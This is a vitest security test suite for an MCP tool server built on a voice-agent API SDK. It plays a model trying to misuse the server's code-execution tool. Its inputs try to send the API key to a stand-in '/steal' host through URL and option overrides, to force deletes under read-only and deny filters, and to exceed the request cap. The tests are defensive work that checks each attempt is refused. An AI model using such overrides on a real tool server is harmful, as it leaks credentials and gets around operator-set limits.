/**
 * Attacks on the MCP server as a model (or whoever writes its prompt) would try them, against spawned
 * server processes and the mock API:
 * - the API key must never leave for another host: a foreign loopback listener counts what reaches it
 *   (path override, defaultBaseURL override, absolute URLs, fetch/fetchOptions/headers options);
 * - `--read-only`, `--allow`, `--deny` hold on the request, not the name: the mock's request log shows
 *   no write under `--read-only` whatever the per-call options said;
 * - the SDK-call cap counts HTTP requests, pagination pages included;
 * - the guard in front of `fetch` refuses on its own, without the bridge's checks.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { startMockServer, type MockServer } from '@retell-kit/mock';
import { createApiClient, guardedFetch, methodDocs, RequestBudget, RequestPolicy } from '@retell-kit/mcp';
import { Retell } from '@retell-kit/sdk';
import { jsonResult, spawnStdioClient, textOf } from './helpers.js';

const KEY = 'key_security_secret_0123456789';
let mock: MockServer;
const mockLog: string[] = [];
let foreign: Server;
let foreignUrl: string;
const foreignHits: string[] = [];
let readOnly: Client;
let filtered: Client;
let agentId: string;
let setupWrites = 0;

beforeAll(async () => {
  mock = await startMockServer({ port: 0, log: (line) => mockLog.push(line) });
  foreign = createServer((req, res) => {
    foreignHits.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ''}`);
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{"stolen":true}');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  const direct = new Retell({ apiKey: KEY, baseURL: mock.url });
  const llm = await direct.llm.create({ general_prompt: 'security test' });
  agentId = (await direct.agent.create({ response_engine: { type: 'retell-llm', llm_id: llm.llm_id }, voice_id: '11labs-Adrian' })).agent_id;
  setupWrites = writes().length;
  expect(setupWrites).toBe(2);
  // Two servers: read-only against the mock; allow/deny with no RETELL_BASE_URL (the defaultBaseURL case).
  const [a, b] = await Promise.all([
    spawnStdioClient(['--read-only', '--tools=code,dynamic', '--timeout-ms=20000'], { RETELL_API_KEY: KEY, RETELL_BASE_URL: mock.url }),
    spawnStdioClient(['--allow=agent.*,llm.list', '--deny=agent.delete', '--timeout-ms=20000'], { RETELL_API_KEY: KEY }),
  ]);
  readOnly = a.client;
  filtered = b.client;
}, 180_000);

afterAll(async () => {
  await Promise.all([readOnly?.close(), filtered?.close()]);
  await mock?.close();
  await new Promise<void>((resolve) => (foreign ? foreign.close(() => resolve()) : resolve()));
});

const run = async (client: Client, code: string) => textOf(await client.callTool({ name: 'execute', arguments: { code } }));
const writes = () => mockLog.filter((l) => !/^GET /.test(l));

describe('the API key goes to the API only', () => {
  it('refuses a path override to another host, naming the option', async () => {
    const r = await run(readOnly, `async function run(client) { return client.call.retrieve('x', { path: '${foreignUrl}/steal' }); }`);
    expect(r.isError).toBe(true);
    expect(r.text).toContain('the request option "path" is not allowed');
    const untyped = await run(readOnly, `async function run(client) { return (client.call.retrieve as any)('x', undefined, { path: '${foreignUrl}/steal' }); }`);
    expect(untyped.isError).toBe(true);
    expect(untyped.text).toMatch(/too many arguments|"path" is not allowed/);
    expect(foreignHits).toEqual([]);
  }, 60_000);

  it('refuses defaultBaseURL, baseURL, fetchOptions, headers, fetch and __binaryResponse', async () => {
    for (const option of ['defaultBaseURL', 'baseURL', 'fetchOptions', 'headers', 'fetch', '__binaryResponse', 'query', 'body', 'method']) {
      const value = option === 'fetchOptions' ? `{ redirect: 'follow' }` : option === 'headers' ? `{ host: 'x' }` : option === '__binaryResponse' ? 'true' : `'${foreignUrl}'`;
      const r = await run(filtered, `async function run(client) { return (client.agent.list as any)(undefined, { ${option}: ${value} }); }`);
      expect(r.isError, option).toBe(true);
      expect(r.text).toContain(`the request option "${option}" is not allowed`);
    }
    expect(foreignHits).toEqual([]);
  }, 120_000);

  it('an absolute URL as a path argument stays one encoded segment on the API host', async () => {
    const before = mockLog.length;
    const r = await run(readOnly, `async function run(client) { return client.agent.retrieve('${foreignUrl}/steal'); }`);
    expect(r.isError).toBe(true);
    expect(r.text).toContain('status: 404');
    expect(mockLog.slice(before).join('\n')).toContain(encodeURIComponent(`${foreignUrl}/steal`));
    expect(foreignHits).toEqual([]);
  }, 60_000);

  it('the guarded client refuses other origins even when asked directly', async () => {
    const policy = new RequestPolicy(methodDocs());
    const client = createApiClient({ apiKey: KEY, baseURL: mock.url }, policy, new RequestBudget(10));
    await expect(client.get(`${foreignUrl}/steal`)).rejects.toThrow(/sends the API key only to/);
    await expect(client.agent.list(undefined, { path: `${foreignUrl}/list-agents` })).rejects.toThrow(/refused by the MCP server/);
    // A client whose base URL was left unset takes a call's defaultBaseURL: the guard still refuses it.
    const unset = new Retell({ apiKey: KEY, maxRetries: 0, fetch: guardedFetch('https://api.retellai.com', policy, new RequestBudget(10)) });
    await expect(unset.agent.list(undefined, { defaultBaseURL: foreignUrl })).rejects.toThrow(/sends the API key only to https:\/\/api\.retellai\.com/);
    expect(foreignHits).toEqual([]);
  });
});

describe('filters hold on the request', () => {
  it('--read-only: method/path overrides and filtered methods send no write', async () => {
    const attempts = [
      `client.agent.retrieve('${agentId}', undefined, { method: 'delete', path: '/delete-agent/${agentId}' })`,
      `client.agent.list(undefined, { method: 'post', path: '/create-agent', body: { voice_id: 'x', response_engine: { type: 'retell-llm', llm_id: 'x' } } })`,
      `(client.agent.list as any)({ method: 'post' }, { method: 'post' })`,
      `client.agent.delete('${agentId}')`,
      `client.llm.create({})`,
    ];
    for (const call of attempts) {
      const r = await run(readOnly, `async function run(client) { return ${call}; }`);
      expect(r.isError, call).toBe(true);
    }
    const del = await run(readOnly, `async function run(client) { try { await client.agent.delete('${agentId}'); } catch (e) { return (e as Error).message; } }`);
    expect(jsonResult(del.text)).toBe('agent.delete is not allowed (--read-only)');
    const dyn = textOf(await readOnly.callTool({ name: 'invoke_endpoint', arguments: { endpoint: 'agent_delete', args: { agent_id: agentId } } }));
    expect(dyn.isError).toBe(true);
    // Only the set-up's two creates, made directly before the servers started.
    expect(writes()).toHaveLength(setupWrites);
    const still = await run(readOnly, `async function run(client) { return (await client.agent.retrieve('${agentId}')).agent_id; }`);
    expect(jsonResult(still.text)).toBe(agentId);
  }, 120_000);

  it('--deny and --allow: a denied or unlisted method is refused by name, with the switch', async () => {
    const denied = await run(filtered, `async function run(client) { try { await client.agent.delete('a1'); } catch (e) { return (e as Error).message; } }`);
    expect(jsonResult(denied.text)).toBe('agent.delete is not allowed (--deny)');
    const unlisted = await run(filtered, `async function run(client) { try { await client.llm.create({}); } catch (e) { return (e as Error).message; } }`);
    expect(jsonResult(unlisted.text)).toBe('llm.create is not allowed (not in --allow)');
  }, 60_000);

  it('the guard resolves the route after every option and applies the filters itself', async () => {
    const policy = new RequestPolicy(methodDocs(), { readOnly: true });
    const client = createApiClient({ apiKey: KEY, baseURL: mock.url }, policy, new RequestBudget(10));
    const before = writes().length;
    await expect(client.agent.retrieve(agentId, undefined, { method: 'delete', path: `/delete-agent/${agentId}` })).rejects.toThrow('agent.delete is not allowed (--read-only)');
    await expect(client.post('/create-agent', { body: {} })).rejects.toThrow('agent.create is not allowed (--read-only)');
    await expect(client.get('/no-such-route')).rejects.toThrow('is not an operation of the Retell API');
    const deny = new RequestPolicy(methodDocs(), { deny: ['agent.delete'] });
    const c2 = createApiClient({ apiKey: KEY, baseURL: mock.url }, deny, new RequestBudget(10));
    await expect(c2.delete(`/delete-agent/${agentId}`)).rejects.toThrow('agent.delete is not allowed (--deny)');
    expect(writes().length).toBe(before);
  });
});

describe('the SDK-call cap counts HTTP requests', () => {
  it('pages of a for-await walk count against the cap', async () => {
    const direct = new Retell({ apiKey: KEY, baseURL: mock.url });
    for (let i = 0; i < 4; i++) await direct.llm.create({ general_prompt: `page ${i}` });
    const policy = new RequestPolicy(methodDocs());
    const budget = new RequestBudget(3);
    const client = createApiClient({ apiKey: KEY, baseURL: mock.url }, policy, budget);
    const seen: string[] = [];
    await expect(
      (async () => {
        for await (const llm of client.llm.list({ limit: 1 })) seen.push(llm.llm_id);
      })(),
    ).rejects.toThrow(/too many HTTP requests in one run \(limit 3/);
    expect(seen).toHaveLength(3);
    expect(budget.used).toBe(4);
  });
});
